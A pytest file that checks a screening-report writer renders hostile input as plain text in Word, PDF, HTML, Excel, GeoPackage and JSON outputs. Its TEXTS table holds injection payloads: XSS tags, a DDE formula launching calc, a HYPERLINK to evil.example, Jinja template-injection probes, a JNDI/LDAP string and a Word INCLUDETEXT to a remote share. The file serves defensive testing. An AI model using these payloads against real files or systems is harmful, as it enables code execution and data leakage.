"""Whatever stands in the data is shown as text, in every field of every kind of report, and does nothing else."""

import json
import re
import sqlite3
import zipfile
from dataclasses import replace
from datetime import date
from html.parser import HTMLParser

import docx
import openpyxl
import pytest
from lxml import etree

from rules.model import Basis, Clause, ClauseOutcome, Dimension, Document, Evidence, Force, Outcome, Trace, Verdict
from sanxian.overrides import AppliedOverride, Override
from sanxian.reports import write_report
from sanxian.reports.wording import plain
from sanxian.result import LayerUsed, RedlineMeet, RedlineStatement, UnitShare

TEXTS = {
    "script": '<script>alert(1)</script><img src=x onerror=alert(2)>',
    "quotes": """"' onload="x" --></td></table><![CDATA[&amp;&#60;]]>""",
    "formula": "=cmd|' /C calc'!A0",
    "plus": "+HYPERLINK(\"http://evil.example\",\"x\")",
    "jinja": "{{7*7}}{% for x in [1] %}{{ ''.__class__ }}{% endfor %}{#",
    "bidi": "\u202egnp.exe\u2066\x07\x00\ud800\u200b",
    "fields": r"{ INCLUDETEXT \\evil\share } \o ${jndi:ldap://x} %s {0}",
}
KINDS = (".docx", ".pdf", ".html", ".xlsx", ".geojson", ".gpkg", ".json", "template.docx")


class Fields:
    """Hands out the hostile text under a number, and remembers which field got which."""

    def __init__(self, text):
        self.text, self.given = text, {}

    def __call__(self, name):
        self.given[name] = f"{self.text}№{len(self.given):02d}"
        return self.given[name]


def both(text):
    return {"zh": text, "en": text}


def hostile(screening, field):
    """A screening in which every text that comes from data or from a rule pack is hostile."""
    document = Document("evil", both(field("document title")), field("number"), field("issuer"), date(2020, 1, 1), date(2021, 1, 1))
    basis = (Basis("evil", field("article")),)
    clause = Clause(field("clause id"), "unit", "ZH36040320001", Dimension.SPATIAL_LAYOUT, field("clause"), field("provenance"),
                    "confirmed", outcome=Verdict.PROHIBITED, place_codes=("3604",))
    outcomes = (
        Outcome("access-list-clause", both(field("list rule")), Verdict.PROHIBITED, Verdict.PROHIBITED, "clause-hit",
                Dimension.SPATIAL_LAYOUT, Force.LIST, basis, values={"text": "x"},
                clauses=(ClauseOutcome(clause, Verdict.PROHIBITED, Verdict.PROHIBITED, "clause-hit", (), share=0.5, list_key=field("list")),)),
        Outcome("wetland-other", both(field("rule title")), Verdict.CONDITIONAL, Verdict.CONDITIONAL, "hit", Dimension.SPATIAL_LAYOUT,
                Force.STATUTE, basis, evidence=(Evidence("wetland", field("feature"), 1, overlap_m2=1.0, share=0.1),),
                documents_needed=(both(field("document needed")),), exceptions_checked=("way",),
                trace=Trace("rule", True, {}, (Trace("exception", False, {"id": "way", "title": both(field("exception"))}),))),
        Outcome("open-rule", both(field("open rule")), Verdict.UNDETERMINED, Verdict.PROHIBITED, "missing-attribute",
                Dimension.SPATIAL_LAYOUT, Force.STATUTE, basis, missing=(f"attribute:{field('missing')}",)),
    )
    override = Override("P1", "wetland-other", Verdict.PERMITTED, field("reason"), field("person"), date(2026, 1, 1), date(2027, 1, 1),
                        field("attachment"))
    first = replace(
        screening.projects[0], id=field("id"), name=field("name"), outcomes=outcomes, verdict=Verdict.PROHIBITED,
        attributes={field("attribute"): field("value")},
        control_units=(UnitShare(field("unit code"), field("unit name"), field("category"), 10.0, 1.0),),
        redline=RedlineStatement(True, 5.0, 0.5, 0.0, field("redline"), True, (
            RedlineMeet(field("redline one"), 3.0, 0.0, 0.3), RedlineMeet(field("redline two"), 2.0, 0.0, 0.2))),
        overrides=(AppliedOverride(override, Verdict.CONDITIONAL, True),), reviewed_verdict=Verdict.PERMITTED,
        alternative=field("alternative"), alternative_of=field("group"))
    second = replace(first, id=field("second id"), name=field("second name"), alternative=field("second alternative"), overrides=(),
                     reviewed_verdict=None)
    sha = "0" * 64
    layers = (LayerUsed("ecological_redline", field("layer"), field("version"), sha, 1, "known", "2022-01-01", 5.0, field("source")),)
    return replace(screening, projects=(first, second), layers=layers, missing_roles=(), documents={"evil": document},
                   program=field("program"))


MAPS = {"id", "name", "second id", "second name", "unit code", "alternative", "second alternative", "group"}
# Not shown there: ids of clauses are shown nowhere, the nearest redline only where the site lies in none or one.
UNSHOWN = {"clause id", "redline"}
NOT_IN = {".json": {"redline one", "redline two", "issuer"}}


class Tags(HTMLParser):
    """Every tag of a page with the names of its attributes, and its text."""

    def __init__(self):
        super().__init__()
        self.tags, self.words = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, tuple(name for name, _value in attrs)))
        assert not any(name.startswith("on") for name, _value in attrs)

    def handle_data(self, data):
        self.words.append(data)


def template(path):
    document = docx.Document()
    for text in ("{{ 标题 }} {{ program }}", "{% for 项目 in 项目们 %}", "{{ 项目.编号 }} {{ 项目.名称 }}", "{% for 概 in 项目.概况 %}{{ 概.名称 }}{{ 概.值 }}{% endfor %}",
                 "{% for 条 in 项目.要点 %}{{ 条.要求 }} {{ 条.情况 }} {{ 条.依据 }}{% endfor %}", "{{ 项目.红线|join(' ') }}",
                 "{% for 见 in 项目.人工意见 %}{{ 见.理由 }}{{ 见.签署 }}{% endfor %}", "{% endfor %}"):
        document.add_paragraph(text)
    document.sections[0].header.paragraphs[0].text = "{{ program }}"
    document.save(path)
    return path


def written(screening, workspace, folder, kind):
    path = folder / f"r{kind[-5:] if kind.startswith('template') else kind}"
    more = {"template": template(folder / "t.docx")} if kind.startswith("template") else {"form": "long"}
    return write_report(screening, path, workspace=workspace, **more)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("which", TEXTS)
def test_hostile_text_is_shown_as_text(screening, workspace, tmp_path, kind, which):
    field = Fields(TEXTS[which])
    path = written(hostile(screening, field), workspace, tmp_path, kind)
    shown, told = READERS[kind](path), field.given
    if kind in (".geojson", ".gpkg"):
        told = {name: text for name, text in told.items() if name in MAPS}
    if kind.startswith("template"):
        told = {name: text for name, text in told.items() if name in {"id", "name", "program", "reason", "clause", "feature", "article",
                                                                        "value", "redline one", "person"}}
    for name, text in told.items():
        if name in UNSHOWN or name in NOT_IN.get(kind, ()):
            continue
        wanted = text if kind == ".json" else plain(text)
        assert "".join(wanted.split()) in shown, name
    harmless = written(hostile(screening, Fields("文字")), workspace, (tmp_path / "b") if (tmp_path / "b").mkdir() is None else None, kind)
    assert SHAPES[kind](path) == SHAPES[kind](harmless)


def bare(text):
    return "".join(text.split())


def word_text(path):
    parts = []
    with zipfile.ZipFile(path) as file:
        for name in file.namelist():
            if name.startswith("word/") and name.endswith(".xml"):
                root = etree.fromstring(file.read(name))
                parts += [node.text or "" for node in root.iter("{*}t")]
        parts.append("".join(etree.fromstring(file.read("docProps/core.xml")).itertext()))
    return bare("".join(parts))


def word_shape(path):
    """The elements that are more than text, the fields and the links out."""
    with zipfile.ZipFile(path) as file:
        found = [sorted(file.namelist())]
        for name in sorted(file.namelist()):
            if name.endswith(".rels"):
                found.append(sorted(etree.fromstring(file.read(name)).xpath("//@Target")))
            elif name.startswith("word/") and name.endswith(".xml"):
                root = etree.fromstring(file.read(name))
                codes = [node.text for node in root.iter("{*}instrText")] + [node.get(node.keys()[0]) for node in root.iter("{*}fldSimple")]
                found.append([node.tag for node in root.iter() if node.tag.rsplit("}")[-1] in ("tbl", "tr", "tc", "p", "hyperlink", "object")])
                found.append(codes)
    return found


def page_text(path):
    page = Tags()
    page.feed(path.read_text(encoding="utf-8"))
    return bare("".join(page.words))


def page_shape(path):
    page = Tags()
    page.feed(path.read_text(encoding="utf-8"))
    return page.tags


def book_text(path):
    book = openpyxl.load_workbook(path)
    return bare("".join(str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None)
                + str(book.properties.creator))


def book_shape(path):
    with zipfile.ZipFile(path) as file:
        assert not any("externalLink" in name for name in file.namelist())
        sheets = {name: file.read(name) for name in file.namelist() if name.startswith("xl/worksheets/sheet")}
    assert not any(re.search(rb"<f[ >]", text) for text in sheets.values())
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert cell.hyperlink is None
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "|")):
                    assert cell.quotePrefix
    return {name: text.count(b"<c ") for name, text in sheets.items()}


def pdf_text(path):
    pypdf = pytest.importorskip("pypdf", reason="reads PDF text")
    reader = pypdf.PdfReader(path)
    words = "".join(page.extract_text() for page in reader.pages) + str(reader.metadata.author)
    return bare(words.replace("\0", ""))


def pdf_shape(path):
    pypdf = pytest.importorskip("pypdf", reason="reads PDF text")
    reader = pypdf.PdfReader(path)
    assert not {"/OpenAction", "/AA"} & set(reader.trailer["/Root"]) - {"/OpenAction"}
    links = set()
    for page in reader.pages:
        for note in page.get("/Annots", ()):
            links |= {str(note.get_object().get("/A", {}).get("/S", "")), str(note.get_object()["/Subtype"])}
    return links


def gpkg_text(path):
    with sqlite3.connect(path) as file:
        return bare("".join(str(value) for row in file.execute("SELECT * FROM screening") for value in row))


def gpkg_shape(path):
    with sqlite3.connect(path) as file:
        return sorted(file.execute("SELECT type, name, tbl_name FROM sqlite_master"))


def json_text(path):
    found = []

    def walk(value):
        for item in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
            walk(item)
        found.extend([*value] if isinstance(value, dict) else [value] if isinstance(value, str) else [])

    walk(json.loads(path.read_text(encoding="utf-8", errors="surrogatepass")))
    return bare("".join(found))


def json_shape(path):
    data = json.loads(path.read_text(encoding="utf-8", errors="surrogatepass"))
    return [len(data.get("features", data.get("projects"))), sorted(data)]


READERS = {".docx": word_text, "template.docx": word_text, ".html": page_text, ".xlsx": book_text, ".pdf": pdf_text,
           ".gpkg": gpkg_text, ".geojson": json_text, ".json": json_text}
SHAPES = {".docx": word_shape, "template.docx": word_shape, ".html": page_shape, ".xlsx": book_shape, ".pdf": pdf_shape,
          ".gpkg": gpkg_shape, ".geojson": json_shape, ".json": json_shape}
